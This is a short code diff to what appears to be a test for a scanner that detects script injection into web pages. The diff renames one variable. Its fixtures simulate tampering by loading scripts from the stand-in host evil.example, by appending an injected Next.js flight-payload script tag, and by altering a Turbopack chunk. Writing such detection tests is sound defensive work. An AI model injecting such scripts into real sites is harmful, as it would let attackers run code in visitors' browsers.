@@ -54,9 +54,9 @@ test("finds a script that was put into a page, a policy that is gone and a scrip
       return { ...answered, body: body.replaceAll(name, "https://evil.example/x.js") };
     }
     if (path.startsWith("/setup/")) {
-      const told =
+      const probe =
         '<script>self.__next_f.push([1,"0:[\\"$\\",\\"script\\",null,{\\"src\\":\\"https://evil.example/y.js\\"}]\\n"])</script>';
-      return { ...answered, body: body.replace("</body>", `${told}</body>`) };
+      return { ...answered, body: body.replace("</body>", `${probe}</body>`) };
     }
     return path.startsWith("/_next/static/chunks/turbopack-")
       ? { ...answered, body: `${body};take()` }
